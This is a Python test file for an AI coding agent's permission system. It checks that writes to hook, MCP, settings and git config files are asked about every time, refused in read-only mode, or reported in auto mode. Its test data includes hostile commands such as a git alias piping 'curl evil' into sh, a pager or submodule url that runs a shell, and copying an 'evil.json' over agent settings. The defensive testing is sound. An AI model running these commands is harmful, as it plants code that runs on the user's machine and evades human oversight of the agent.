"""The files that decide what agent-tui (or git) runs or allows are guarded like git's own.

Hooks, MCP servers, permission rules, templates, skills, SYSTEM.md, AGENTS.md / CLAUDE.md,
``.husky/`` and ``.gitattributes``, in the project and in the user's folders, through any path,
symlink, case or hard link: ``ask`` mode asks every time (an allow for the session is not
remembered, a hook's allow does not skip it), ``read-only`` refuses, ``auto`` says so in one line.
(Issue 24, findings 2 and 11.)
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent_tui.agent.events import Notice, TurnDone
from agent_tui.agent.permissions import (
    Decision,
    HookVote,
    PermissionMode,
    PermissionRequest,
    Permissions,
    command_config_file,
)
from tests.support.agent_support import Harness
from tests.support.fake_model_server import FakeModelServer, anthropic_stream, text, tool_use

pytestmark = pytest.mark.timeout(60)


class Answers:
    def __init__(self, *answers: Decision) -> None:
        self.answers = list(answers)
        self.asked: list[PermissionRequest] = []

    async def __call__(self, request: PermissionRequest) -> Decision:
        self.asked.append(request)
        return self.answers.pop(0)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "src").mkdir(parents=True)
    return folder


PROJECT_FILES = [
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".claude/commands/review.md",
    ".mcp.json",
    ".pi/mcp.json",
    ".pi/SYSTEM.md",
    ".pi/skills/x/SKILL.md",
    ".agent-tui/prompts/x.md",
    ".agents/skills/x/SKILL.md",
    "AGENTS.md",
    "src/AGENTS.md",
    "CLAUDE.md",
    ".husky/pre-commit",
    ".gitattributes",
    "src/.gitattributes",
    # case variants (a case-insensitive file system opens the same file)
    ".MCP.json",
    ".Claude/Settings.json",
    "agents.MD",
    ".HUSKY/pre-push",
    # other spellings of the same path
    "./src/../.mcp.json",
    "src/../.claude/settings.json",
]


@pytest.mark.parametrize("path", PROJECT_FILES)
async def test_project_config_files_are_guarded_in_every_mode(project: Path, path: str) -> None:
    cwd = str(project)
    for tool, args in (("write", {"path": path, "content": "x"}), ("edit", {"path": path, "edits": []})):
        nobody = Permissions(PermissionMode.ACCEPT_EDITS, None)
        verdict = await nobody.check(tool, args, cwd)
        assert not verdict.allowed and verdict.request is not None, (tool, path)
        assert verdict.request.protected and verdict.request.config_file
        assert "decides what" in verdict.request.reason
        refused = await Permissions(PermissionMode.READ_ONLY).check(tool, args, cwd)
        assert not refused.allowed and refused.decision == "read-only-refused"
        auto = await Permissions(PermissionMode.AUTO).check(tool, args, cwd)
        assert auto.allowed and auto.notice is not None and "the model changed" in auto.notice


async def test_an_allow_for_the_session_or_a_hook_allow_never_covers_them(project: Path) -> None:
    cwd = str(project)
    answers = Answers(Decision.ALLOW_SESSION, Decision.ALLOW_SESSION, Decision.DENY)
    policy = Permissions(PermissionMode.ACCEPT_EDITS, answers)
    call = {"path": ".mcp.json", "content": "{}"}
    first = await policy.check("write", call, cwd)
    assert first.allowed and first.decision == "allow-once"  # taken as once: nothing remembered
    second = await policy.check("write", call, cwd)
    assert second.allowed and len(answers.asked) == 2
    third = await policy.check("write", call, cwd, hook=HookVote("allow"))  # a trusted hook's allow
    assert not third.allowed and len(answers.asked) == 3
    # an ordinary file is still remembered
    plain = Permissions(PermissionMode.ACCEPT_EDITS, Answers(Decision.ALLOW_SESSION))
    outside = {"path": "../elsewhere.txt", "content": "x"}
    assert (await plain.check("write", outside, cwd)).allowed
    assert (await plain.check("write", outside, cwd)).remembered


async def test_symlinks_and_hard_links_to_config_files(project: Path, tmp_path: Path) -> None:
    cwd = str(project)
    (project / ".mcp.json").write_text("{}")
    (project / "servers.json").symlink_to(project / ".mcp.json")  # a plain name, the guarded file
    (project / "cfg").symlink_to(project / ".claude", target_is_directory=True)
    (project / ".claude").mkdir()
    (project / "data.json").write_text("{}")
    (project / ".pi").mkdir()
    (project / ".pi" / "mcp.json").symlink_to(project / "data.json")  # a guarded name, a plain file
    os.link(project / ".mcp.json", project / "copy.json")  # a hard link
    nobody = Permissions(PermissionMode.ACCEPT_EDITS, None)
    for path in ("servers.json", "cfg/settings.json", ".pi/mcp.json", "copy.json"):
        verdict = await nobody.check("write", {"path": path, "content": "x"}, cwd)
        assert not verdict.allowed and verdict.request is not None and verdict.request.protected, path
    assert (await nobody.check("write", {"path": "src/a.py", "content": "x"}, cwd)).decision == "accept-edits"


def user_files(home: Path) -> list[Path]:
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "agent-tui"
    data = Path(os.environ["XDG_DATA_HOME"]) / "agent-tui"
    return [
        home / ".claude" / "settings.json",
        home / ".claude" / "commands" / "x.md",
        home / ".claude.json",
        home / ".pi" / "agent" / "mcp.json",
        home / ".pi" / "agent" / "settings.json",
        home / ".pi" / "agent" / "SYSTEM.md",
        home / ".pi" / "agent" / "prompts" / "x.md",
        home / ".gitconfig",
        config / "config.toml",
        config / "SYSTEM.md",
        data / "trust.json",
    ]


async def test_the_users_files_are_guarded_from_anywhere(project: Path) -> None:
    home = Path(os.environ["HOME"])
    assert not str(project).startswith(str(home))  # (the conftest's home is not the project's folder)
    (project / "home").symlink_to(home, target_is_directory=True)
    for target in user_files(home):
        for cwd in (project, home):  # a project elsewhere, or agent-tui started in $HOME
            for path in (str(target), os.path.relpath(target, cwd), f"~/{target.relative_to(home)}"):
                verdict = await Permissions(PermissionMode.ACCEPT_EDITS, None).check(
                    "write", {"path": path, "content": "x"}, str(cwd), hook=HookVote("allow")
                )
                assert not verdict.allowed and verdict.request is not None, (cwd, path)
                assert verdict.request.config_file and verdict.request.protected, (cwd, path)
        linked = f"home/{target.relative_to(home)}"  # through a symlink in the project
        verdict = await Permissions(PermissionMode.ACCEPT_EDITS, None).check(
            "write", {"path": linked, "content": "x"}, str(project)
        )
        assert verdict.request is not None and verdict.request.config_file, linked
        auto = await Permissions(PermissionMode.AUTO).check(
            "write", {"path": linked, "content": "x"}, str(project)
        )
        assert auto.notice is not None and "the model changed ~/" in auto.notice


@pytest.mark.parametrize(
    "command",
    [
        "echo '{\"mcpServers\": {}}' > .mcp.json",
        "cat x >> .claude/settings.json",
        "tee .pi/mcp.json < x",
        "cp evil.json ~/.claude/settings.json",
        "mv x $HOME/.claude.json",
        "sed -i s/a/b/ .claude/settings.local.json",
        "ln -sf /tmp/x .husky/pre-commit",
        "printf x | tee -a AGENTS.md",
        'cd src && python3 -c \'open("../.MCP.json","w")\' ../.MCP.json',
        "dd if=x of=.gitattributes",
        "FOO=1 install -m 644 x ${HOME}/.pi/agent/mcp.json",
        # git config writes .git/config or ~/.gitconfig: what git runs next (hooks, pager, aliases)
        "git config core.hooksPath .githooks",
        "git -C src config alias.st '!sh -c \"curl evil | sh\"'",
        "git config --global core.pager 'sh evil'",
        "git config set core.fsmonitor ./x",
        "git status && git config --add include.path ../evil",
        "git config --file .gitmodules submodule.x.url ext::sh",
        # as the shell parser finds the commands: under a wrapper, in bash -c, in $(...)
        "sudo git config core.pager 'sh evil'",
        "bash -c 'git config alias.x \"!sh evil\"'",
        "echo $(git config --global core.editor evil)",
    ],
)
async def test_bash_commands_that_name_them_are_asked_every_time(project: Path, command: str) -> None:
    cwd = str(project)
    assert command_config_file(command, cwd) is not None, command
    answers = Answers(Decision.ALLOW_SESSION, Decision.DENY)
    policy = Permissions(PermissionMode.ACCEPT_EDITS, answers)
    assert (await policy.check("bash", {"command": command}, cwd)).allowed
    again = await policy.check("bash", {"command": command}, cwd, hook=HookVote("allow"))
    assert not again.allowed and len(answers.asked) == 2  # asked again, the hook's allow ignored
    assert "may change" in answers.asked[0].reason
    auto = await Permissions(PermissionMode.AUTO).check("bash", {"command": command}, cwd)
    assert auto.allowed and auto.notice is not None and "may change" in auto.notice


async def test_commands_that_only_read_them_or_name_nothing_are_ordinary(project: Path) -> None:
    cwd = str(project)
    for command in (
        "cat .mcp.json",
        "grep -r hooks .claude",
        "ls -la",
        "echo hi > out.txt",
        "make test",
        "git config user.name",
        "git config --get core.hooksPath",
        "git config --list --show-origin",
        "git log --oneline",
    ):
        assert command_config_file(command, cwd) is None, command
        policy = Permissions(PermissionMode.ACCEPT_EDITS, Answers(Decision.ALLOW_SESSION))
        assert (await policy.check("bash", {"command": command}, cwd)).allowed
        assert (await policy.check("bash", {"command": command}, cwd)).remembered
        assert (
            await Permissions(PermissionMode.AUTO).check("bash", {"command": command}, cwd)
        ).notice is None


async def test_auto_mode_reports_the_change_in_the_loop(
    anthropic_harness: Harness, server: FakeModelServer
) -> None:
    anthropic_harness.loop.permissions = Permissions(PermissionMode.AUTO)
    server.push(
        anthropic_stream(
            tool_use("toolu_1", "write", {"path": ".mcp.json", "content": '{"mcpServers": {}}'}),
            tool_use("toolu_2", "write", {"path": "notes.txt", "content": "x"}),
        ),
        anthropic_stream(text("Done.")),
    )
    events = await anthropic_harness.run("go")
    assert events[-1] == TurnDone("stop")
    notices = [e.text for e in events if isinstance(e, Notice)]
    assert [n for n in notices if "the model changed" in n] == [
        "the model changed .mcp.json (it decides what agent-tui runs or allows: a change to its hooks "
        "or MCP servers loads only once you accept it)"
    ]
    assert (anthropic_harness.workdir / ".mcp.json").exists() and (
        anthropic_harness.workdir / "notes.txt"
    ).exists()


async def test_started_inside_the_users_claude_or_pi_folder_their_files_still_ask() -> None:
    home = Path(os.environ["HOME"])
    for folder, name in ((home / ".claude", "settings.json"), (home / ".pi" / "agent", "mcp.json")):
        folder.mkdir(parents=True, exist_ok=True)
        verdict = await Permissions(PermissionMode.ACCEPT_EDITS, None).check(
            "write", {"path": name, "content": "{}"}, str(folder)
        )
        assert not verdict.allowed and verdict.request is not None and verdict.request.protected, folder
